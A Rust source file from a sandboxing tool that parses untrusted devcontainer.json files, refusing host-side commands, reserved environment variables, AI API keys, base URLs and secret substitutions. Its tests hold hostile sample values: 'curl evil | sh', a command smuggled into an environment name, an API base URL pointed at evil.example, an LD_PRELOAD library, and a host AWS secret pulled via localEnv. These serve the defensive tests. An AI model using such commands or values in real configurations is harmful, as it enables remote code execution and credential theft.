//! `.devcontainer/devcontainer.json` (JSON with comments and trailing commas),
//! read for what sandpen can honour inside its own VM: language `features`,
//! `containerEnv` / `remoteEnv`, `postCreateCommand`, `postStartCommand`,
//! `forwardPorts` and `remoteUser`. Every other key is named in
//! [`DevContainer::not_honoured`] with the reason, never dropped silently.
//!
//! The file comes from the workspace, so it is untrusted. Nothing in it runs on
//! the host: `initializeCommand` (which editors run on the host) is refused by
//! name. Lifecycle commands run inside the sandbox only, as the agent would.
//! Environment names must be identifiers; a variable sandpen sets itself
//! (`PATH`, `HOME`, proxies, CA bundles, an agent's key and base URL) or a
//! value with `${…}` substitution (`${localEnv:X}` would copy a host variable
//! into the guest) is refused by name. Ports must be numbers.

use std::collections::BTreeMap;

use serde::Serialize;
use serde_json::Value;

use crate::sources::{Found, Parsed, Skipped};
use crate::{Tool, Version};

/// The official features whose `version` option sandpen provisions.
const LANGUAGE_FEATURES: &[(&str, Tool)] = &[
    ("node", Tool::Node),
    ("python", Tool::Python),
    ("rust", Tool::Rust),
    ("go", Tool::Go),
    ("ruby", Tool::Ruby),
    ("java", Tool::Java),
];

/// Official features that every sandpen image already satisfies.
const PRESENT_FEATURES: &[(&str, &str)] = &[
    (
        "docker-in-docker",
        "every sandbox has its own Docker engine",
    ),
    ("common-utils", "the image has the common tools"),
    ("git", "the image has git"),
];

/// A lifecycle command, in any of the three forms the spec allows.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(untagged)]
pub enum LifecycleCommand {
    /// Run by a shell.
    Shell(String),
    /// Run directly, no shell.
    Exec(Vec<String>),
    /// Named commands run in parallel.
    Parallel(BTreeMap<String, LifecycleCommand>),
}

impl std::fmt::Display for LifecycleCommand {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            LifecycleCommand::Shell(s) => write!(f, "{s}"),
            LifecycleCommand::Exec(argv) => write!(f, "{}", argv.join(" ")),
            LifecycleCommand::Parallel(named) => {
                let parts: Vec<String> = named.iter().map(|(k, c)| format!("{k}: {c}")).collect();
                write!(f, "{}", parts.join("; "))
            }
        }
    }
}

/// What sandpen takes from a devcontainer.json.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct DevContainer {
    pub container_env: BTreeMap<String, String>,
    pub remote_env: BTreeMap<String, String>,
    pub post_create: Option<LifecycleCommand>,
    pub post_start: Option<LifecycleCommand>,
    /// Guest ports to publish on the host's loopback at the same number.
    pub forward_ports: Vec<u16>,
    pub remote_user: Option<String>,
    /// `(key, why)` for each key sandpen does not honour.
    pub not_honoured: Vec<(String, String)>,
}

/// Keys that describe the editor or the file itself and change nothing that
/// runs: taken without comment.
const INFORMATIONAL: &[&str] = &["name", "$schema", "customizations"];

/// Parses `text`; returns the settings and, separately, the toolchains its
/// features ask for (which join the other version files in the plan).
pub fn parse(text: &str) -> Result<(DevContainer, Parsed), Skipped> {
    let options = jsonc_parser::ParseOptions::default();
    let json: Value = jsonc_parser::parse_to_serde_value(text, &options)
        .map_err(|e| Skipped::Syntax(e.to_string()))?;
    let Value::Object(top) = json else {
        return Err(Skipped::Syntax("the top level is not an object".into()));
    };
    let mut dc = DevContainer::default();
    let mut tools = Parsed::default();
    for (key, value) in &top {
        let result = match key.as_str() {
            k if INFORMATIONAL.contains(&k) => Ok(()),
            "features" => features(value, &mut tools, &mut dc),
            "containerEnv" => {
                env("containerEnv", value, &mut dc.not_honoured).map(|e| dc.container_env = e)
            }
            "remoteEnv" => env("remoteEnv", value, &mut dc.not_honoured).map(|e| dc.remote_env = e),
            "postCreateCommand" => lifecycle(value).map(|c| dc.post_create = Some(c)),
            "postStartCommand" => lifecycle(value).map(|c| dc.post_start = Some(c)),
            "forwardPorts" => ports(value).map(|p| dc.forward_ports = p),
            "remoteUser" => user(value).map(|u| dc.remote_user = Some(u)),
            "initializeCommand" => Err(
                "editors run it on the host; sandpen never runs a workspace's command on the host"
                    .to_string(),
            ),
            "image" | "build" | "dockerFile" | "dockerfile" | "dockerComposeFile" => {
                Err("the sandbox runs sandpen's image; use `sandpen save` for a custom one".into())
            }
            "mounts" | "workspaceMount" | "workspaceFolder" => {
                Err("only the workspace is mounted, at its own path".into())
            }
            "runArgs" | "privileged" | "capAdd" | "securityOpt" | "init" => {
                Err("the sandbox is a VM, not a container".into())
            }
            "appPort" => Err("use forwardPorts or `sandpen run -p`".into()),
            _ => Err("not supported by sandpen".into()),
        };
        if let Err(why) = result {
            dc.not_honoured.push((key.clone(), why));
        }
    }
    dc.not_honoured.sort();
    Ok((dc, tools))
}

fn features(value: &Value, tools: &mut Parsed, dc: &mut DevContainer) -> Result<(), String> {
    let Value::Object(map) = value else {
        return Err("not an object".into());
    };
    for (id, options) in map {
        let short = official_feature(id);
        if let Some((_, tool)) = LANGUAGE_FEATURES.iter().find(|(n, _)| Some(*n) == short) {
            let key = format!("features.{id}");
            let version = match options {
                Value::String(s) => Some(s.as_str()),
                Value::Object(o) => o.get("version").and_then(|v| v.as_str()),
                _ => None,
            }
            .unwrap_or("latest");
            match version {
                "none" => {}
                "os-provided" => dc
                    .not_honoured
                    .push((key, "os-provided: the image's own is used".into())),
                v => match Version::from_manager(v) {
                    Some(version) => tools.found.push(Found {
                        tool: *tool,
                        version,
                        key,
                        digest: None,
                    }),
                    None => tools.skipped.push(Skipped::BadValue {
                        key,
                        text: v.into(),
                    }),
                },
            }
            if let Value::Object(o) = options {
                for option in o.keys().filter(|k| *k != "version") {
                    dc.not_honoured.push((
                        format!("features.{id}.{option}"),
                        "only a feature's version is honoured".into(),
                    ));
                }
            }
        } else if let Some((_, why)) = PRESENT_FEATURES.iter().find(|(n, _)| Some(*n) == short) {
            // Satisfied as it is; say so only when asked for a plan.
            let _ = why;
        } else {
            dc.not_honoured.push((
                format!("features.{id}"),
                "sandpen provisions only the language features of ghcr.io/devcontainers/features"
                    .into(),
            ));
        }
    }
    Ok(())
}

/// `ghcr.io/devcontainers/features/node:1` -> `node`.
fn official_feature(id: &str) -> Option<&str> {
    let rest = id.strip_prefix("ghcr.io/devcontainers/features/")?;
    Some(rest.split([':', '@']).next().unwrap_or(rest))
}

/// One environment table. A variable that cannot be taken is named in
/// `not_honoured` as `TABLE.NAME`, and the others are kept.
fn env(
    table: &str,
    value: &Value,
    not_honoured: &mut Vec<(String, String)>,
) -> Result<BTreeMap<String, String>, String> {
    let Value::Object(map) = value else {
        return Err("not an object".into());
    };
    let mut out = BTreeMap::new();
    for (name, v) in map {
        let valid_name = !name.is_empty()
            && name.len() <= 128
            && !name.starts_with(|c: char| c.is_ascii_digit())
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        let why = if !valid_name {
            Some("not a variable name")
        } else if RESERVED_ENV.contains(&name.as_str()) || name.starts_with("SANDPEN_") {
            Some("sandpen sets it")
        } else {
            match v {
                Value::String(s) if s.contains("${") => Some(
                    "variable substitution is not supported (`${localEnv:…}` would carry the \
                     host's variables into the sandbox)",
                ),
                Value::String(s) if s.contains('\0') || s.len() > 4096 => {
                    Some("a NUL byte or longer than 4 KiB")
                }
                Value::String(s) => {
                    out.insert(name.clone(), s.clone());
                    None
                }
                _ => Some("the value is not a string"),
            }
        };
        if let Some(why) = why {
            not_honoured.push((format!("{table}.{name}"), why.into()));
        }
    }
    Ok(out)
}

/// Variables sandpen itself sets for a command in the guest; the workspace
/// cannot replace them (an agent's sentinel key and base URL among them).
const RESERVED_ENV: &[&str] = &[
    "HOME",
    "USER",
    "LOGNAME",
    "SHELL",
    "TERM",
    "PATH",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "NODE_EXTRA_CA_CERTS",
    "REQUESTS_CA_BUNDLE",
    "CURL_CA_BUNDLE",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "NO_PROXY",
    "ALL_PROXY",
    "http_proxy",
    "https_proxy",
    "no_proxy",
    "all_proxy",
    "ANTHROPIC_API_KEY",
    "ANTHROPIC_BASE_URL",
    "ANTHROPIC_AUTH_TOKEN",
    "OPENAI_API_KEY",
    "OPENAI_BASE_URL",
    "GEMINI_API_KEY",
    "GOOGLE_API_KEY",
    "GOOGLE_GEMINI_BASE_URL",
    "GITHUB_TOKEN",
    "GH_TOKEN",
];

fn lifecycle(value: &Value) -> Result<LifecycleCommand, String> {
    match value {
        Value::String(s) => Ok(LifecycleCommand::Shell(s.clone())),
        Value::Array(items) => items
            .iter()
            .map(|i| i.as_str().map(str::to_owned))
            .collect::<Option<Vec<_>>>()
            .filter(|argv| !argv.is_empty())
            .map(LifecycleCommand::Exec)
            .ok_or_else(|| "an array that is not a list of strings".into()),
        Value::Object(map) => map
            .iter()
            .map(|(name, c)| match c {
                Value::Object(_) => Err("nested parallel commands".to_string()),
                other => lifecycle(other).map(|c| (name.clone(), c)),
            })
            .collect::<Result<BTreeMap<_, _>, _>>()
            .map(LifecycleCommand::Parallel),
        _ => Err("not a command".into()),
    }
}

fn ports(value: &Value) -> Result<Vec<u16>, String> {
    let Value::Array(items) = value else {
        return Err("not a list".into());
    };
    items
        .iter()
        .map(|item| {
            let port = match item {
                Value::Number(n) => n.as_u64(),
                // "localhost:3000" is the container's own loopback: the same port.
                Value::String(s) => s
                    .strip_prefix("localhost:")
                    .or_else(|| s.strip_prefix("127.0.0.1:"))
                    .and_then(|p| p.parse().ok()),
                _ => None,
            };
            port.filter(|p| (1..=65535).contains(p))
                .map(|p| p as u16)
                .ok_or_else(|| format!("{item} is not a port of the sandbox"))
        })
        .collect()
}

fn user(value: &Value) -> Result<String, String> {
    let name = value.as_str().ok_or("not a string")?;
    let valid = !name.is_empty()
        && name.len() <= 32
        && name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-');
    if valid {
        Ok(name.into())
    } else {
        Err(format!("{name:?} is not a user name"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FULL: &str = r#"{
        // A comment, and trailing commas, as editors write them.
        "name": "webapp",
        "image": "mcr.microsoft.com/devcontainers/typescript-node:22",
        "features": {
            "ghcr.io/devcontainers/features/node:1": { "version": "22", "nodeGypDependencies": true },
            "ghcr.io/devcontainers/features/python:1": "3.12",
            "ghcr.io/devcontainers/features/docker-in-docker:2": {},
            "ghcr.io/devcontainers/features/go:1": { "version": "none" },
            "ghcr.io/someone/features/terraform:1": {},
        },
        "containerEnv": { "NODE_ENV": "development" },
        "remoteEnv": { "PATH_EXTRA": "/x" },
        "postCreateCommand": "npm ci",
        "postStartCommand": { "db": ["docker", "compose", "up", "-d"], "hello": "echo hi" },
        "forwardPorts": [3000, "localhost:5173"],
        "remoteUser": "node",
        "initializeCommand": "curl evil | sh",
        "customizations": { "vscode": { "extensions": ["a.b"] } },
    }"#;

    #[test]
    fn every_key_is_taken_or_named() {
        let (dc, tools) = parse(FULL).unwrap();
        let found: Vec<_> = tools
            .found
            .iter()
            .map(|f| (f.tool, f.version.to_string()))
            .collect();
        assert_eq!(
            found,
            [
                (Tool::Node, "22".to_string()),
                (Tool::Python, "3.12".to_string())
            ]
        );
        assert_eq!(dc.container_env["NODE_ENV"], "development");
        assert_eq!(dc.remote_env["PATH_EXTRA"], "/x");
        assert_eq!(
            dc.post_create,
            Some(LifecycleCommand::Shell("npm ci".into()))
        );
        assert_eq!(
            dc.post_start.as_ref().unwrap().to_string(),
            "db: docker compose up -d; hello: echo hi"
        );
        assert_eq!(dc.forward_ports, [3000, 5173]);
        assert_eq!(dc.remote_user.as_deref(), Some("node"));
        let named: Vec<&str> = dc.not_honoured.iter().map(|(k, _)| k.as_str()).collect();
        assert_eq!(
            named,
            [
                "features.ghcr.io/devcontainers/features/node:1.nodeGypDependencies",
                "features.ghcr.io/someone/features/terraform:1",
                "image",
                "initializeCommand",
            ],
            "{:?}",
            dc.not_honoured
        );
        let why = &dc.not_honoured[3].1;
        assert!(why.contains("never runs a workspace's command on the host"));
    }

    #[test]
    fn hostile_values_are_refused_by_name() {
        let (dc, _) = parse(
            r#"{"containerEnv": {"LD_PRELOAD=x; rm": "1", "OK": "yes",
                                 "ANTHROPIC_BASE_URL": "https://evil.example",
                                 "AWS_SECRET": "${localEnv:AWS_SECRET_ACCESS_KEY}", "SANDPEN_X": "1"},
                "remoteEnv": {"LD_PRELOAD": "/workspace/evil.so"},
                "forwardPorts": ["10.0.0.1:22", 70000],
                "remoteUser": "root; id", "postCreateCommand": 5}"#,
        )
        .unwrap();
        let named: Vec<&str> = dc.not_honoured.iter().map(|(k, _)| k.as_str()).collect();
        assert_eq!(
            named,
            [
                "containerEnv.ANTHROPIC_BASE_URL",
                "containerEnv.AWS_SECRET",
                "containerEnv.LD_PRELOAD=x; rm",
                "containerEnv.SANDPEN_X",
                "forwardPorts",
                "postCreateCommand",
                "remoteEnv.LD_PRELOAD",
                "remoteUser"
            ]
        );
        assert_eq!(dc.container_env.len(), 1);
        assert_eq!(dc.container_env["OK"], "yes");
        assert!(dc.remote_env.is_empty() && dc.forward_ports.is_empty());
        assert!(dc.not_honoured[1].1.contains("localEnv"));
    }

    #[test]
    fn syntax_errors_say_where() {
        let err = parse("{\n  \"name\": \n}").unwrap_err().to_string();
        assert!(err.contains("line 3") || err.contains("3:"), "{err}");
        assert!(parse("[1]").is_err());
    }
}
